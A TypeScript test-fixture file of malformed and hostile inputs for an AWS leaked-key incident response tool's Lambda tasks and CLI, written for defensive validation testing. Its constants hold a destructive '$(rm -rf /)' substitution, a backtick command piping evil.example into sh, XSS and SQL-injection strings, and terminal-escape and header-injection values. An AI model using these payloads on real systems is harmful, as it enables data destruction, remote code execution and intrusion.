import { readFileSync } from 'node:fs';
import { type EventFixture, loadEvent } from './fixtures.js';

/*
 * Bad input, shared by the tests of the Lambda tasks, the state machine and the CLI: events that
 * are malformed, truncated, of the wrong types, missing fields, or carrying hostile text; and
 * command lines with invalid values or conflicting flags. Every case names what must be refused.
 */

/** One event that must be refused with an InvalidEventError naming `field`. */
export interface BadEventCase {
  name: string;
  /** Builds a fresh copy of the event. */
  event: () => unknown;
  /** The dotted path InvalidEventError must name. */
  field: string;
  /** What its message must say of the field, when that matters (a wrong type is not a missing field). */
  reason?: RegExp;
}

/** One command line that must exit 2, before any change, with `message` on stderr. */
export interface BadCliCase {
  name: string;
  args: string[];
  /** What the error on stderr must say. */
  message: RegExp;
}

/** A well-formed key id that no account holds. */
export const WELL_FORMED_KEY = 'AKIAIOSFODNN7EXAMPLE';

/** Ten million characters: far beyond any field AWS sends, and beyond what a Lambda event may hold. */
const TEN_MB = 'A'.repeat(10 * 1024 * 1024);
/** A command-line argument must stay under Linux's 128 KiB limit per argument. */
const LONG_ARGUMENT = 'a'.repeat(100_000);

const SHELL = '$(rm -rf /)';
const BACKTICKS = '`curl evil.example | sh`';
const CONTROL = 'alice\u0000\u0007\u001b[2J\u001b]0;pwned\u0007\r\n';
const HTML = '<img src=x onerror="alert(1)">';
const MARKDOWN = '**[urgent](https://evil.example)**';

const TA_ITEM = 'detail.check-item-detail';
const TA_KEY = `${TA_ITEM}.Access Key ID`;
const TA_USER = `${TA_ITEM}.User Name (IAM or Root)`;
const TA_LOCATION = `${TA_ITEM}.Location`;

type Mutation = (event: Record<string, any>) => void;

function from(fixture: EventFixture, mutate: Mutation): () => unknown {
  return () => {
    const event = loadEvent(fixture);
    mutate(event);
    return event;
  };
}

function trustedAdvisor(name: string, field: string, mutate: Mutation, reason?: RegExp): BadEventCase {
  return { name: `Trusted Advisor: ${name}`, field, reason, event: from('trusted-advisor-exposed', mutate) };
}

function health(name: string, field: string, mutate: Mutation, reason?: RegExp): BadEventCase {
  return { name: `AWS Health: ${name}`, field, reason, event: from('health-compromised-metadata', mutate) };
}

const MISSING = /is missing$/;
const WRONG_TYPE = /is invalid: Invalid input: expected \w+, received \w+$/;

function item(event: Record<string, any>): Record<string, unknown> {
  return event.detail['check-item-detail'];
}

const fixtureText = readFileSync(new URL('../fixtures/events/trusted-advisor-exposed.json', import.meta.url), 'utf8');

/** Events that are not JSON objects: the task receives them as they are. */
export const NON_OBJECT_EVENTS: BadEventCase[] = [
  { name: 'null', field: '(event)', event: () => null },
  { name: 'a number', field: '(event)', event: () => 42 },
  { name: 'an array of events', field: '(event)', event: () => [loadEvent('trusted-advisor-exposed')] },
  { name: 'JSON text cut in half', field: '(event)', event: () => fixtureText.slice(0, fixtureText.length / 2) },
];

/** Events that are JSON objects, but not exposed-key incidents that can be acted on. */
export const BAD_OBJECT_EVENTS: BadEventCase[] = [
  { name: 'an empty object', field: 'source', event: () => ({}) },
  {
    name: 'an event of another service',
    field: 'source',
    event: from('trusted-advisor-exposed', (event) => {
      event.source = 'aws.ec2';
    }),
  },
  {
    name: 'a source that is not a string',
    field: 'source',
    event: from('trusted-advisor-exposed', (event) => {
      event.source = { $ne: null };
    }),
  },
  trustedAdvisor(
    'truncated to its envelope (no detail)',
    'detail',
    (event) => {
      delete event.detail;
    },
    MISSING,
  ),
  trustedAdvisor(
    'detail cut before the check item',
    TA_ITEM,
    (event) => {
      delete event.detail['check-item-detail'];
    },
    MISSING,
  ),
  trustedAdvisor(
    'check item detail is a string',
    TA_ITEM,
    (event) => {
      event.detail['check-item-detail'] = '{"Access Key ID": "AKIAIOSFODNN7EXAM';
    },
    WRONG_TYPE,
  ),
  trustedAdvisor('another check', 'detail.check-name', (event) => {
    event.detail['check-name'] = 'Low Utilization Amazon EC2 Instances';
  }),
  trustedAdvisor('status OK (not a finding)', 'detail.status', (event) => {
    event.detail.status = 'OK';
  }),
  trustedAdvisor('another detail-type', 'detail-type', (event) => {
    event['detail-type'] = 'Trusted Advisor Check Item Refresh Status';
  }),
  trustedAdvisor('empty event id', 'id', (event) => {
    event.id = '';
  }),
  trustedAdvisor('account of 5 digits', 'account', (event) => {
    event.account = '12345';
  }),
  trustedAdvisor(
    'account as a number',
    'account',
    (event) => {
      event.account = 123456789012;
    },
    WRONG_TYPE,
  ),
  trustedAdvisor(
    'missing key id',
    TA_KEY,
    (event) => {
      delete item(event)['Access Key ID'];
    },
    MISSING,
  ),
  trustedAdvisor(
    'key id as a number',
    TA_KEY,
    (event) => {
      item(event)['Access Key ID'] = 1234;
    },
    WRONG_TYPE,
  ),
  trustedAdvisor('lowercase key id', TA_KEY, (event) => {
    item(event)['Access Key ID'] = 'akiaiosfodnn7example';
  }),
  trustedAdvisor('key id with digits outside base 32', TA_KEY, (event) => {
    item(event)['Access Key ID'] = 'AKIA0000111188889999';
  }),
  trustedAdvisor('key id of another prefix', TA_KEY, (event) => {
    item(event)['Access Key ID'] = 'AKIBIOSFODNN7EXAMPLE';
  }),
  trustedAdvisor('key id of 10 MB', TA_KEY, (event) => {
    item(event)['Access Key ID'] = `AKIA${TEN_MB}`;
  }),
  trustedAdvisor('key id holding a shell command', TA_KEY, (event) => {
    item(event)['Access Key ID'] = `AKIAIOSFODNN7EXAMPLE;${SHELL}`;
  }),
  health('another event type', 'detail.eventTypeCode', (event) => {
    event.detail.eventTypeCode = 'AWS_EC2_INSTANCE_RETIREMENT_SCHEDULED';
  }),
  health('another service', 'detail.service', (event) => {
    event.detail.service = 'EC2';
  }),
  health('no key anywhere', 'detail.affectedEntities', (event) => {
    event.detail.affectedEntities = [];
    event.resources = [];
    delete event.detail.eventMetadata.publicKey;
  }),
  health('two different keys', 'detail.affectedEntities', (event) => {
    event.detail.affectedEntities.push({ entityValue: 'AKIA2EXAMPLEHEALTH7Q' });
  }),
];

/**
 * Events with a field that only describes the incident (a user name that is not one, a location,
 * a case id, a time) that is hostile, huge or of the wrong type: the key is still read and
 * contained, and the field is made inert, cut, or left out with a note. They were once refused,
 * which left a leaked key active for a display field.
 */
export const TOLERATED_EVENTS: BadEventCase[] = [
  // The key is named validly elsewhere in the event (publicKey, an affected entity, the resources): a
  // value that only looks like a key, or a list of another type, is left out with a note, rather than
  // the key left active.
  health(
    'affected entities as a string',
    'detail.affectedEntities',
    (event) => {
      event.detail.affectedEntities = 'AKIA3EXAMPLEMETADAT5';
    },
    WRONG_TYPE,
  ),
  health('lowercase key in the affected entities', 'detail.affectedEntities.0.entityValue', (event) => {
    event.detail.affectedEntities = [{ entityValue: 'akia3examplemetadat5' }];
  }),
  health('truncated key in the resources', 'resources.0', (event) => {
    event.resources = ['ASIA3EXAMPLE'];
  }),
  health('lowercase public key in the metadata', 'detail.eventMetadata.publicKey', (event) => {
    event.detail.eventMetadata.publicKey = 'akia3examplemetadat5';
  }),
  health('user name with a shell command', 'detail.eventMetadata.userName', (event) => {
    event.detail.eventMetadata.userName = SHELL;
  }),
  health('location in HTML', 'detail.eventMetadata.location', (event) => {
    event.detail.eventMetadata.location = HTML;
  }),
  trustedAdvisor('location with an emoji where it is cut', TA_LOCATION, (event) => {
    item(event).Location = `https://example.com/${'a'.repeat(2026)}🔑${'b'.repeat(100)}`;
  }),
  trustedAdvisor('event id of 300 KB', 'id', (event) => {
    event.id = `id-${'7'.repeat(300 * 1024)}`;
  }),
  trustedAdvisor('case id of 300 KB with a right-to-left override', `${TA_ITEM}.Case ID`, (event) => {
    item(event)['Case ID'] = `\u202e${'c'.repeat(300 * 1024)}`;
  }),

  trustedAdvisor('key id with a trailing newline', TA_KEY, (event) => {
    item(event)['Access Key ID'] = 'AKIAIOSFODNN7EXAMPLE\n';
  }),
  trustedAdvisor('user name with a shell command', TA_USER, (event) => {
    item(event)['User Name (IAM or Root)'] = SHELL;
  }),
  trustedAdvisor('user name with backticks', TA_USER, (event) => {
    item(event)['User Name (IAM or Root)'] = BACKTICKS;
  }),
  trustedAdvisor('user name with control characters', TA_USER, (event) => {
    item(event)['User Name (IAM or Root)'] = CONTROL;
  }),
  trustedAdvisor('user name of 10 MB', TA_USER, (event) => {
    item(event)['User Name (IAM or Root)'] = TEN_MB;
  }),
  trustedAdvisor('user name in HTML', TA_USER, (event) => {
    item(event)['User Name (IAM or Root)'] = '<b>alice</b>';
  }),
  trustedAdvisor('user name in markdown', TA_USER, (event) => {
    item(event)['User Name (IAM or Root)'] = MARKDOWN;
  }),
  trustedAdvisor(
    'user name as an object',
    TA_USER,
    (event) => {
      item(event)['User Name (IAM or Root)'] = { name: 'alice' };
    },
    WRONG_TYPE,
  ),
  trustedAdvisor('location in HTML', TA_LOCATION, (event) => {
    item(event).Location = HTML;
  }),
  trustedAdvisor('location with control characters', TA_LOCATION, (event) => {
    item(event).Location = 'https://github.com/example\r\nBcc: everyone@example.com';
  }),
  trustedAdvisor('location of 10 MB', TA_LOCATION, (event) => {
    item(event).Location = `https://example.com/${TEN_MB}`;
  }),
  trustedAdvisor('location with backticks', TA_LOCATION, (event) => {
    item(event).Location = `https://example.com/${BACKTICKS}`;
  }),
  trustedAdvisor('case id with a shell command', `${TA_ITEM}.Case ID`, (event) => {
    item(event)['Case ID'] = SHELL;
  }),
  trustedAdvisor('event time that is not a date', 'time', (event) => {
    event.time = 'yesterday, around noon';
  }),
  trustedAdvisor(
    'event time as a number',
    'time',
    (event) => {
      event.time = 1764195243000;
    },
    WRONG_TYPE,
  ),
  trustedAdvisor('Time Updated as a date, not epoch milliseconds', `${TA_ITEM}.Time Updated`, (event) => {
    item(event)['Time Updated'] = '2026-11-26T22:14:03Z';
  }),
  health(
    'entity value as a number',
    'detail.affectedEntities.0.entityValue',
    (event) => {
      event.detail.affectedEntities = [{ entityValue: 7 }];
    },
    WRONG_TYPE,
  ),
  health('user name as a number', 'detail.eventMetadata.userName', (event) => {
    event.detail.eventMetadata.userName = 42;
  }),
  health('start time that is not a date', 'detail.startTime', (event) => {
    event.detail.startTime = '2026-13-45T99:00:00Z';
  }),
];

/** Every bad event. */
export const BAD_EVENTS: BadEventCase[] = [...NON_OBJECT_EVENTS, ...BAD_OBJECT_EVENTS];

function respond(name: string, args: string[], message: RegExp): BadCliCase {
  return { name: `respond: ${name}`, args: ['respond', ...args], message };
}

const KEY = ['--key', WELL_FORMED_KEY];

/** Command lines that must be refused with exit code 2 before anything is called or changed. */
export const BAD_COMMAND_LINES: BadCliCase[] = [
  respond('no --key', ['--yes'], /access key id is required/),
  respond('lowercase --key', ['--key', 'akiaiosfodnn7example', '--yes'], /--key .*must be upper case/),
  respond('short --key', ['--key', 'AKIA123', '--yes'], /--key "AKIA123" must be 20 characters/),
  respond('--key holding a shell command', ['--key', SHELL, '--yes'], /--key .*must be 20 characters/),
  respond('--key holding backticks', ['--key', `AKIA${BACKTICKS}`, '--yes'], /--key .*must be 20 characters/),
  respond('--key of 100,000 characters', ['--key', `AKIA${LONG_ARGUMENT}`, '--yes'], /--key .*got 100004/),
  respond('--user with a shell command', [...KEY, '--user', SHELL, '--yes'], /--user .*not a valid IAM user name/),
  respond('--user with backticks', [...KEY, '--user', BACKTICKS, '--yes'], /--user .*not a valid IAM user name/),
  respond(
    '--user with control characters',
    [...KEY, '--user', 'alice\u001b[2J\u0007\r\nbob', '--yes'],
    /--user .*not a valid IAM user name/,
  ),
  respond('--user in HTML', [...KEY, '--user', '<script>alert(1)</script>', '--yes'], /--user .*not a valid/),
  respond('--user in markdown', [...KEY, '--user', MARKDOWN, '--yes'], /--user .*not a valid IAM user name/),
  respond('--user of 100,000 characters', [...KEY, '--user', LONG_ARGUMENT, '--yes'], /--user .*100000 characters/),
  respond('unknown --mode', [...KEY, '--mode', 'destroy', '--yes'], /--mode must be one of/),
  respond('--start that is not ISO 8601', [...KEY, '--start', 'yesterday', '--yes'], /--start must be an ISO 8601/),
  respond('--start in a locale format', [...KEY, '--start', '03/04/2026', '--yes'], /--start must be an ISO 8601/),
  respond(
    '--start on the 45th of the 13th month',
    [...KEY, '--start', '2026-13-45', '--yes'],
    /not a date that exists/,
  ),
  respond('--start on the 30th of February', [...KEY, '--start', '2026-02-30', '--yes'], /not a date that exists/),
  respond('--end at 24:00', [...KEY, '--end', '2026-11-26T24:00:00Z', '--yes'], /not a date that exists/),
  respond(
    '--start after --end',
    [...KEY, '--start', '2026-11-27T00:00:00Z', '--end', '2026-11-26T00:00:00Z', '--yes'],
    /--start must not be after --end/,
  ),
  respond(
    '--start in a year to come',
    [...KEY, '--start', '2999-11-26', '--yes'],
    /--start "2999-11-26" is in the future/,
  ),
  respond('--hours of zero', [...KEY, '--hours', '0', '--yes'], /--hours must be a whole number/),
  respond('--hours in hexadecimal', [...KEY, '--hours', '0x18', '--yes'], /--hours must be a whole number.*"0x18"/),
  respond('--hours with an exponent', [...KEY, '--hours', '2e1', '--yes'], /--hours must be a whole number/),

  respond(
    'a --timeout that is not a number',
    [...KEY, '--timeout', 'soon', '--yes'],
    /--timeout must be a number of seconds/,
  ),
  respond('a --timeout of an hour', [...KEY, '--timeout', '3600', '--yes'], /--timeout must be a number of seconds/),
  respond('--hours beyond 90 days', [...KEY, '--hours', '5000', '--yes'], /--hours must be a whole number/),
  respond('--hours of 1.5', [...KEY, '--hours', '1.5', '--yes'], /--hours must be a whole number/),
  respond(
    '--hours with --start',
    [...KEY, '--hours', '4', '--start', '2026-11-26T00:00:00Z', '--yes'],
    /either --hours or --start\/--end/,
  ),
  respond('--regions that is empty', [...KEY, '--regions', ' , ', '--yes'], /--regions must be region names/),
  respond('--regions naming a planet', [...KEY, '--regions', 'us-east-1,mars-1', '--yes'], /not "mars-1"/),
  respond(
    '--regions holding a shell command',
    [...KEY, '--regions', `us-east-1;${SHELL}`, '--yes'],
    /--regions must be region names/,
  ),
  respond('--region in capitals', [...KEY, '--region', 'US-EAST-1', '--yes'], /"US-EAST-1" is not an AWS region/),
  respond('--topic that is not an ARN', [...KEY, '--topic', 'security-team', '--yes'], /--topic must be an SNS topic/),
  respond(
    '--dry-run with --mode notify-only',
    [...KEY, '--dry-run', '--mode', 'notify-only'],
    /--dry-run and --mode notify-only/,
  ),
  respond('an unknown flag', [...KEY, '--force'], /unknown option '--force'/),
  {
    name: 'investigate: --logs with --regions',
    args: ['investigate', ...KEY, '--logs', '/tmp', '--regions', 'us-east-1'],
    message: /--regions chooses where LookupEvents or Athena searches/,
  },
  {
    name: 'investigate: --athena-table that is not DATABASE.TABLE',
    args: ['investigate', ...KEY, '--athena-table', 'cloudtrail'],
    message: /--athena-table must be DATABASE\.TABLE/,
  },
  {
    name: 'investigate: --athena-table with a quote in it',
    args: ['investigate', ...KEY, '--athena-table', "db.t'; DROP TABLE x; --"],
    message: /--athena-table must be DATABASE\.TABLE/,
  },
  {
    name: 'investigate: --workgroup without --athena-table',
    args: ['investigate', ...KEY, '--workgroup', 'primary'],
    message: /--workgroup is for the Athena source/,
  },
  {
    name: 'investigate: --logs with --athena-table',
    args: ['investigate', ...KEY, '--logs', '/tmp', '--athena-table', 'db.t'],
    message: /either log files \(--logs\) or an Athena table/,
  },
  {
    name: 'investigate: --athena-output that is not in S3',
    args: ['investigate', ...KEY, '--athena-table', 'db.t', '--athena-output', '/tmp/out'],
    message: /--athena-output must be an S3 location/,
  },
  {
    name: 'investigate: --accounts that are not account ids',
    args: ['investigate', ...KEY, '--athena-table', 'db.t', '--accounts', '1234'],
    message: /--accounts must be 12-digit account ids/,
  },
  { name: 'investigate: empty --logs', args: ['investigate', ...KEY, '--logs', ' '], message: /--logs needs a folder/ },
  {
    name: 'investigate: --max-file-mb without --logs',
    args: ['investigate', ...KEY, '--max-file-mb', '64'],
    message: /--max-file-mb is for log files: give --logs too/,
  },
  {
    name: 'investigate: --max-file-mb of 0',
    args: ['investigate', ...KEY, '--logs', '/tmp', '--max-file-mb', '0'],
    message: /--max-file-mb must be a whole number of MiB from 1 to 4096/,
  },
  {
    name: 'investigate: --max-file-mb that is not a number',
    args: ['investigate', ...KEY, '--logs', '/tmp', '--max-file-mb', '1e3'],
    message: /--max-file-mb must be a whole number of MiB/,
  },
  {
    name: 'investigate: --logs s3:// without a bucket',
    args: ['investigate', ...KEY, '--logs', 's3://'],
    message: /--logs "s3:\/\/" names no bucket/,
  },
  {
    name: 'investigate: --start on the 30th of February',
    args: ['investigate', ...KEY, '--start', '2026-02-30', '--end', '2026-03-02'],
    message: /--start "2026-02-30" is not a date that exists/,
  },
  {
    name: 'simulate: --event with --key',
    args: ['simulate', ...KEY, '--event', 'event.json'],
    message: /--event replays the event as it is/,
  },
  {
    name: 'investigate: --end that is not a date',
    args: ['investigate', ...KEY, '--end', 'now'],
    message: /--end must be an ISO 8601/,
  },
  {
    name: 'simulate: --create-test-user with --key',
    args: ['simulate', '--create-test-user', ...KEY],
    message: /--create-test-user makes its own user and key/,
  },
  {
    name: 'simulate: --create-test-user with --no-wait',
    args: ['simulate', '--create-test-user', '--no-wait'],
    message: /--create-test-user must wait/,
  },
  {
    name: 'simulate: --event with --source (its file names its own)',
    args: ['simulate', '--event', 'event.json', '--source', 'health'],
    message: /--event replays the event as it is: leave out --key, --user, --source/,
  },
  { name: 'simulate: unknown --source', args: ['simulate', ...KEY, '--source', 'github'], message: /--source must be/ },
  {
    name: 'simulate: --topic without --local',
    args: ['simulate', ...KEY, '--topic', 'arn:aws:sns:us-east-1:123456789012:security'],
    message: /--topic applies to --local/,
  },
  {
    name: 'simulate: a region other than us-east-1',
    args: ['simulate', ...KEY, '--region', 'eu-west-1'],
    message: /must live in us-east-1, not eu-west-1/,
  },
  {
    name: 'respond: a region other than us-east-1 (the stack, its topic and schedules are there)',
    args: ['respond', ...KEY, '--region', 'eu-west-1', '--yes'],
    message: /must live in us-east-1, not eu-west-1/,
  },
  {
    name: 'release: a region other than us-east-1',
    args: ['release', ...KEY, '--region', 'eu-west-1', '--yes'],
    message: /must live in us-east-1, not eu-west-1/,
  },
  {
    name: 'deploy: --no-execute with --yes',
    args: ['deploy', '--no-execute', '--yes'],
    message: /--yes and --no-execute together/,
  },
  {
    name: 'deploy: an unknown region',
    args: ['deploy', '--region', 'xx-fake-9', '--yes'],
    message: /must live in us-east-1, not xx-fake-9/,
  },
  {
    name: 'deploy: a bucket name with capitals',
    args: ['deploy', '--bucket', 'My_Bucket', '--yes'],
    message: /--bucket must be an S3 bucket name .*, not "My_Bucket"/,
  },
  {
    name: 'destroy: --bucket without --delete-bucket',
    args: ['destroy', '--bucket', 'artifacts', '--yes'],
    message: /use it with --delete-bucket/,
  },
  {
    name: 'deploy: without --yes and no terminal to ask (refused before the artifact is uploaded)',
    args: ['deploy'],
    message: /deploy changes the account: add --yes/,
  },
  {
    name: 'destroy: --bucket that is not a bucket name',
    args: ['destroy', '--delete-bucket', '--bucket', 's3://artifacts', '--yes'],
    message: /--bucket must be an S3 bucket name/,
  },
  {
    name: 'deploy: a stack name CloudFormation refuses',
    args: ['deploy', '--stack-name', 'bad name;rm', '--yes'],
    message: /--stack-name .*starts with a letter and holds only letters, digits and hyphens/,
  },
  {
    name: 'destroy: a stack name over 128 characters',
    args: ['destroy', '--stack-name', `s${'x'.repeat(128)}`, '--yes'],
    message: /--stack-name .*at most 128 characters/,
  },
  {
    name: 'deploy: a new stack name over 64 characters (the schedule group is named after it)',
    args: ['deploy', '--stack-name', `s${'x'.repeat(64)}`, '--yes'],
    message: /at most 64 characters \(its schedule group is named after it\)/,
  },
  {
    name: 'respond: a stack name CloudFormation refuses',
    args: ['respond', ...KEY, '--stack-name', '-x', '--yes'],
    message: /--stack-name/,
  },
  { name: 'status: a region other than us-east-1', args: ['status', '--region', 'ap-south-1'], message: /us-east-1/ },
  { name: 'an unknown command', args: ['contain', ...KEY], message: /unknown command 'contain'/ },
];
